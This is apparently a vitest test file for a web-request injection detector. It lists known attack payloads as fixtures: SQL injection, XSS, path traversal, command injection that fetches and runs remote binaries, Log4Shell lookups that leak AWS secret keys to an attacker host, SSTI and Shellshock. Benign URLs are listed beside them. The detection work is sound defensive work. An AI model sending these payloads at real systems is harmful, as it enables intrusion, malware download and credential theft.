import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { decodeForMatching } from '../../../src/detect/patterns/decode.js';
import {
  findHeaderInjection,
  findInjection,
  findInjectionInDecoded,
  type InjectionMatch,
  type InjectionType,
} from '../../../src/detect/patterns/injection.js';
import { fuzzStrings, PATHOLOGICAL } from './fuzz.js';

/** Request targets as scanners and attackers send them (sqlmap, OWASP and PayloadsAllTheThings payloads, botnet requests). */
const ATTACKS: readonly (readonly [string, InjectionType])[] = [
  // SQL injection
  ['/index.php?id=1%27%20or%20%271%27%3D%271', 'sqli'],
  ['/item.php?id=-1+UNION+ALL+SELECT+NULL,NULL,CONCAT(0x7171706a71,0x4a6b,0x717a6a7171)--+-', 'sqli'],
  ['/products.php?id=1%20AND%203821%3D3821', 'sqli'],
  ['/products.php?id=1%27%20AND%20SLEEP(5)%20AND%20%27xYzW%27%3D%27xYzW', 'sqli'],
  ['/news.php?id=1;WAITFOR%20DELAY%20%270:0:5%27--', 'sqli'],
  ['/login.php?username=admin%27--&password=x', 'sqli'],
  ['/login?user=%22%20or%20%22%22%3D%22&pass=%22%20or%20%22%22%3D%22', 'sqli'],
  ["/login?user=admin'or''='&pass=x", 'sqli'],
  ['/search?q=%27%20UNION%20SELECT%20username,password%20FROM%20users--', 'sqli'],
  ['/page.php?id=1%20AND%20extractvalue(1,concat(0x7e,version()))', 'sqli'],
  ['/page.php?id=1%27%20and%20updatexml(1,concat(0x7e,(select%20user())),0)--%20-', 'sqli'],
  ['/item?id=1+AND+(SELECT+1+FROM+(SELECT(SLEEP(5)))a)', 'sqli'],
  ['/view.php?id=-1/**/UNION/**/SELECT/**/1,2,@@version,4', 'sqli'],
  ['/view.php?id=1/*!50000union*/+/*!50000select*/+1,2,3', 'sqli'],
  ['/cat.php?id=1%20order%20by%2010--', 'sqli'],
  ['/profile?id=1+and+1=2+union+select+1,group_concat(table_name),3+from+information_schema.tables', 'sqli'],
  ['/api/users?id=1%3BSELECT%20pg_sleep(5)--', 'sqli'],
  ['/export?id=1%27%20into%20outfile%20%27/var/www/html/s.php%27--', 'sqli'],
  ['/item?id=1+and+benchmark(5000000,md5(1))', 'sqli'],
  ['/login?user[$ne]=admin&pass[$ne]=x', 'sqli'],
  ['/?id=1%27%3B%20DROP%20TABLE%20users%3B--', 'sqli'],
  ['/item?id=%2527%2520or%25201%253D1--', 'sqli'],
  // Cross-site scripting
  ['/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E', 'xss'],
  ['/search?q=%22%3E%3Csvg/onload=alert(1)%3E', 'xss'],
  ['/?name=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E', 'xss'],
  ['/redirect?url=javascript:alert(document.domain)', 'xss'],
  ['/?q=%3Ciframe%20src%3D%22javascript:alert(%27XSS%27)%22%3E', 'xss'],
  ['/comment?text=%3Cbody%20onload%3Dalert(%27xss%27)%3E', 'xss'],
  ['/?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E', 'xss'],
  ['/?x=%22%20onmouseover%3D%22alert(1)', 'xss'],
  ['/?q=&lt;script&gt;alert(1)&lt;/script&gt;', 'xss'],
  ['/?next=javascript://%250aalert(1)', 'xss'],
  ['/?q=%3Cdetails%20open%20ontoggle%3Dprompt(1)%3E', 'xss'],
  // Path traversal and file inclusion
  ['/download?file=../../../../etc/passwd', 'traversal'],
  ['/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', 'traversal'],
  ['/index.php?page=php://filter/convert.base64-encode/resource=index.php', 'traversal'],
  ['/..%252f..%252f..%252f..%252fetc%252fpasswd', 'traversal'],
  ['/static/..%5c..%5c..%5cwindows%5cwin.ini', 'traversal'],
  ['/index.php?file=....//....//....//etc/passwd', 'traversal'],
  ['/view?template=/proc/self/environ', 'traversal'],
  ['/app/..;/..;/manager/html', 'traversal'],
  ['/index.php?page=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', 'traversal'],
  ['/?file=file:///etc/passwd', 'traversal'],
  ['/?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=', 'traversal'],
  ['/../../../../../../../../windows/win.ini', 'traversal'],
  ['/static/../.env', 'traversal'],
  // Command and code injection
  ['/ping.php?ip=127.0.0.1%3Bid', 'cmdi'],
  ['/cgi-bin/ping?host=8.8.8.8%7Cwhoami', 'cmdi'],
  ['/?cmd=%60id%60', 'cmdi'],
  ['/api/check?host=x%24(curl%20http://evil.example/s.sh%7Csh)', 'cmdi'],
  ['/diag?addr=1.1.1.1%26%26cat%20/etc/passwd', 'cmdi'],
  ['/shell?cd+/tmp;rm+-rf+*;wget+http://45.14.0.1/bins/x86;chmod+777+x86;./x86', 'cmdi'],
  [
    '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://1.2.3.4:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1',
    'cmdi',
  ],
  ['/?host=127.0.0.1%0Anslookup%20abc.oast.me', 'cmdi'],
  ['/?ip=1.2.3.4;cat${IFS}/etc/passwd', 'cmdi'],
  [
    '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21',
    'cmdi',
  ],
  ['/?x=%3C%3Fphp%20system(%22id%22)%3B%3F%3E', 'cmdi'],
  // Log4Shell
  ['/?x=${jndi:ldap://45.83.64.1:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZAo=}', 'log4shell'],
  ['/$%7Bjndi:ldap://x.dnslog.cn/a%7D', 'log4shell'],
  [
    '/?q=%24%7B%24%7Blower%3Aj%7Dndi%3A%24%7Blower%3Al%7D%24%7Blower%3Ad%7Da%24%7Blower%3Ap%7D%3A%2F%2Fx.y%2Fz%7D',
    'log4shell',
  ],
  ['/api?x=${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://1.2.3.4/a}', 'log4shell'],
  ['/?a=${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.y/a}', 'log4shell'],
  // Template and expression injection
  ['/?name={{7*7}}', 'ssti'],
  ['/?name=${7*7}', 'ssti'],
  ['/?q={{config.items()}}', 'ssti'],
  ["/?q={{''.__class__.__mro__[1].__subclasses__()}}", 'ssti'],
  ['/?x=%3C%25%3D%207*7%20%25%3E', 'ssti'],
  ["/?redirect=${T(java.lang.Runtime).getRuntime().exec('id')}", 'ssti'],
  [
    '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/',
    'ssti',
  ],
  // Shellshock in a query
  ['/cgi-bin/status?x=()%20%7B%20%3A%3B%20%7D%3B%20echo%3B%20%2Fbin%2Fid', 'shellshock'],
];

/** What a job portal and a blog really receive. None of these may match. */
const BENIGN: readonly string[] = [
  '/',
  '/jobs',
  '/jobs?q=c%2B%2B+developer',
  '/jobs?q=sales+%26+marketing',
  '/jobs?q=o%27brien',
  '/jobs?q=r%26d',
  '/jobs?q=night+shift+(weekends)',
  '/jobs?q=%22project+manager%22',
  '/jobs?q=50%25+remote',
  '/jobs?q=C%23+.NET',
  '/jobs?q=what%27s+new',
  '/static/app.3f2a1c.js',
  '/jobs/1234?ref=newsletter&utm_source=mail',
  '/search?q=select+committee+assistant',
  '/search?q=union+organizer',
  '/jobs?q=trade+union+select+committee',
  '/jobs?q=don%27t+--+skip',
  '/search?q=the+%27ultimate%27+guide+--+2024',
  '/search?q=%22exact+phrase%22+--verbose',
  '/auth/callback?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c',
  '/download?data=SGVsbG8gV29ybGQhIFRoaXMgaXMgYmFzZTY0Kys=&sig=ab+cd/ef==',
  '/api/items?sort=-created',
  '/files/annual%20report%202024.pdf',
  '/jobs?q=m%C3%BCller',
  '/jobs?q=caf%C3%A9+barista',
  '/jobs?q=%E5%B7%A5%E7%A8%8B%E5%B8%88',
  '/jobs?q=%D0%B2%D0%BE%D0%B4%D0%B8%D1%82%D0%B5%D0%BB%D1%8C',
  '/jobs?q=%F0%9F%9A%80+startup',
  '/jobs?q=%E2%80%9Cquoted%E2%80%9D',
  '/jobs?q=sleep+technician',
  '/jobs?q=sleep+(night+shift)',
  '/jobs?q=job+alert(s)',
  '/jobs?q=javascript%3A+the+good+parts',
  '/javascript:void(0)',
  '/jobs?q=%22sales%22+or+%22marketing%22',
  '/jobs?q=rock+%27n%27+roll',
  '/jobs?q=1+or+2+years',
  '/jobs?q=pets%7Ccat+food',
  '/jobs?q=java%7Cphp+developer',
  '/jobs?q=photo%3Bid+card',
  '/jobs?q=linux%7Cbash+scripting',
  '/jobs?q=veterinary%3B+cat+lover',
  '/jobs?q=r%26d+%7C%7C+research',
  '/jobs?q=salary+%3C50k',
  '/jobs?q=%3C3',
  '/jobs?q=2%3E1+years',
  '/jobs?q=%24100k+salary',
  '/jobs?q=%3Cb%3Ebold%3C%2Fb%3E',
  '/jobs/{{job.id}}',
  '/jobs/${id}',
  '/jobs?location=london%2C+uk&radius=10',
  '/jobs?q=node.js+%26+react',
  '/jobs?q=ux%2Fui+designer',
  '/jobs?q=devops+%2B+kubernetes',
  '/jobs?q=C%2B%2B%2FQt',
  '/jobs?q=select+from+list',
  '/jobs?q=%28remote%29+OR+%28hybrid%29',
  '/jobs?q=(senior+OR+lead)+AND+(python+OR+go)',
  '/jobs?q=%22customer+service%22+-call+-centre',
  '/jobs?q=order+by+date',
  '/jobs?sort=date&order=desc',
  '/jobs?q=information+security+analyst',
  '/jobs?q=it%27s+a+%22great%22+place',
  '/jobs?q=1%2C000+bonus',
  '/jobs?q=%25%25%25',
  '/jobs?q=50%+off',
  '/api/search?q=name%3A%22john%22+AND+city%3A%22paris%22',
  '/calendar?range=2024-01-01..2024-12-31',
  '/docs/v1.2..v1.3/diff',
  '/images/logo@2x.png',
  '/users/@jane.doe',
  '/products;jsessionid=0A1B2C3D4E5F?x=1',
  '/files/xdotool/docs/man/?C=M;O=D',
  '/blog/tags/c++?page=2',
  '/blog/geekery/solving-good-or-bad-problems.html?utm_source=feedburner&utm_medium=feed&utm_campaign=Feed%3A+semicomplete%2Fmain+%28semicomplete.com+-+Jordan+Sissel%29',
  '/wp-content/themes/x/style.css?ver=6.4.2',
  '/api/v1/jobs?filter[status]=open&filter[type]=full-time',
  '/api/v1/jobs?fields=id,title,company&include=company.logo',
  '/redirect?url=https%3A%2F%2Fexample.com%2Fjobs%3Fid%3D5',
  '/login?next=%2Fdashboard%3Ftab%3Dapplications',
  '/api/graphql?query=%7Bjobs(first%3A10)%7Bid+title%7D%7D',
  '/api/graphql?query=query+%7B+me+%7B+id+%7D+%7D',
  '/jobs?q=operating+system+(linux)',
  '/jobs?q=%27%27',
  '/share?text=I+applied+%3B)+wish+me+luck',
];

/** Every character as a `%XX` escape (UTF-8), as evasion tools do. */
function percentEncodeAll(text: string): string {
  return [...Buffer.from(text)].map((b) => `%${b.toString(16).toUpperCase().padStart(2, '0')}`).join('');
}

/** The payload of a target (its query, or its path when there is none), decoded, then encoded by `encode`. */
function reencode(target: string, encode: (text: string) => string): string {
  const query = target.indexOf('?');
  const payload = query < 0 ? target.slice(1) : target.slice(query + 1);
  return (query < 0 ? '/' : target.slice(0, query + 1)) + encode(decodeForMatching(payload));
}

function expectMatch(match: InjectionMatch | undefined, type: InjectionType, where: string): void {
  expect(match?.type, where).toBe(type);
  expect(match?.evidence.length ?? 0, where).toBeGreaterThan(0);
  expect(match?.evidence.length ?? 0, where).toBeLessThanOrEqual(80);
}

describe('findInjection', () => {
  it('has enough fixtures', () => {
    expect(ATTACKS.length).toBeGreaterThanOrEqual(40);
    expect(BENIGN.length).toBeGreaterThanOrEqual(60);
  });

  it.each(ATTACKS)('%s is %s', (path, type) => {
    expectMatch(findInjection(path), type, path);
  });

  it.each(BENIGN)('%s is benign', (path) => {
    expect(findInjection(path)).toBeUndefined();
  });

  it.each(ATTACKS)('%s is found however it is encoded', (path, type) => {
    const encoded = reencode(path, percentEncodeAll);
    expectMatch(findInjection(encoded), type, encoded);
    const doubleEncoded = reencode(path, (text) => percentEncodeAll(text).replaceAll('%', '%25'));
    expectMatch(findInjection(doubleEncoded), type, doubleEncoded);
    expectMatch(findInjection(path.toUpperCase()), type, path.toUpperCase());
  });

  it('skips only targets the payload expressions would not match anyway', () => {
    const targets = [...fuzzStrings(10_000, 23), ...ATTACKS.map(([path]) => path), ...BENIGN].map((s) =>
      // A request target has no raw whitespace or control characters.
      s.replace(/[\s\p{Cc}]/gu, '+'),
    );
    for (const target of targets) {
      expect(findInjection(target), target).toEqual(findInjectionInDecoded(decodeForMatching(target)));
    }
  });

  it('finds nothing in a real access log', () => {
    const paths = readFileSync('tests/fixtures/real/elastic_apache_1k.log', 'utf8')
      .split('\n')
      .map((line) => line.split('"')[1]?.split(' ')[1])
      .filter((path): path is string => path !== undefined);
    expect(paths.length).toBeGreaterThan(990);
    expect(paths.filter((path) => findInjection(path) !== undefined)).toEqual([]);
  });

  it('reports the decoded payload with the rest of its parameter as evidence', () => {
    expect(findInjection('/ping?host=127.0.0.1;cat+/etc/passwd&x=1')).toEqual({
      type: 'cmdi',
      evidence: ';cat /etc/passwd',
    });
    expect(findInjection('/download?file=..%2f..%2f..%2fetc%2fpasswd')).toEqual({
      type: 'traversal',
      evidence: '../../../etc/passwd',
    });
    const longPayload = '/?x=$' + `{jndi:ldap://${'a'.repeat(200)}}`;
    expect(findInjection(longPayload)?.evidence).toHaveLength(80);
  });

  it('never throws and stays within bounds on random and pathological input', () => {
    for (const s of [...fuzzStrings(10_000, 21), ...PATHOLOGICAL]) {
      const match = findInjection(s);
      if (match !== undefined) expect(match.evidence.length).toBeLessThanOrEqual(80);
    }
  });
});

describe('findHeaderInjection', () => {
  it.each([
    ['${jndi:ldap://45.83.64.1:1389/a}', 'log4shell'],
    ['Mozilla/5.0 ${jndi:dns://x.interact.sh/ua}', 'log4shell'],
    ['${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x.y/a}', 'log4shell'],
    ['${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://1.2.3.4/a}', 'log4shell'],
    [
      '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.com/a}',
      'log4shell',
    ],
    ["${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.y/a}", 'log4shell'],
    ['${jndi:ldap://x.y/${env:AWS_SECRET_ACCESS_KEY}}', 'log4shell'],
    ['https://example.com/?q=%24%7Bjndi%3Aldap%3A%2F%2Fx.y%2Fa%7D', 'log4shell'],
    ['() { :; }; echo; /bin/bash -c "cat /etc/passwd"', 'shellshock'],
    ['() { :;}; /bin/bash -c "wget http://1.2.3.4/x -O /tmp/x"', 'shellshock'],
    ['() { _; } >_[$($())] { echo Content-Type: text/plain; echo; id; }', 'shellshock'],
  ] as const)('%s is %s', (value, type) => {
    expectMatch(findHeaderInjection(value), type, value);
  });

  it.each([
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    'My%20App/1.2.3 CFNetwork/1494.0.7 Darwin/23.4.0',
    'https://example.com/jobs?q=c%2B%2B+developer',
    'https://example.com/template/{{page.title}}',
    'okhttp/4.12.0',
    '',
  ])('%s is benign', (value) => {
    expect(findHeaderInjection(value)).toBeUndefined();
  });

  it('finds nothing in the user agents and referers of a real access log', () => {
    const fields = readFileSync('tests/fixtures/real/elastic_apache_1k.log', 'utf8')
      .split('\n')
      .flatMap((line) => {
        const parts = line.split('"');
        return [parts[3], parts[5]];
      })
      .filter((field): field is string => field !== undefined);
    expect(fields.filter((field) => findHeaderInjection(field) !== undefined)).toEqual([]);
  });

  it('never throws on random and pathological input', () => {
    for (const s of [...fuzzStrings(10_000, 22), ...PATHOLOGICAL]) {
      const match = findHeaderInjection(s);
      if (match !== undefined) expect(match.evidence.length).toBeLessThanOrEqual(80);
    }
  });
});
